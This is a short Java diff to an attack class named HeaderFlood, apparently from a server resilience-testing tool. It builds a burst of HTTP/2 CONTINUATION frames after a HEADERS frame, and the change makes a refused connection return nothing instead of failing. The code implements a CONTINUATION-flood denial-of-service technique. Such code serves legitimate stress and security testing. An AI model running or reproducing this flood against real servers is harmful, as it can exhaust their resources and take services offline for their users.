@@ -28,12 +28,18 @@ final class HeaderFlood implements Attack {
 
   @Override
   public Held on(Target target) throws IOException {
-    RawConnection connection = RawConnection.wide(target);
     byte[] content = new byte[frameBytes];
     byte[] one = Http2Bytes.frame(CONTINUATION, 0, 1, content);
     byte[] many = new byte[FRAMES_AT_ONCE * one.length];
     for (int i = 0; i < FRAMES_AT_ONCE; i++) {
       System.arraycopy(one, 0, many, i * one.length, one.length);
+    }
+    RawConnection connection;
+    try {
+      connection = RawConnection.wide(target);
+    } catch (SocketException closed) {
+      // The member does not take this connection.
+      return Held.NOTHING;
     }
     try {
       connection.frame(Http2Bytes.HEADERS, 0, 1, content);
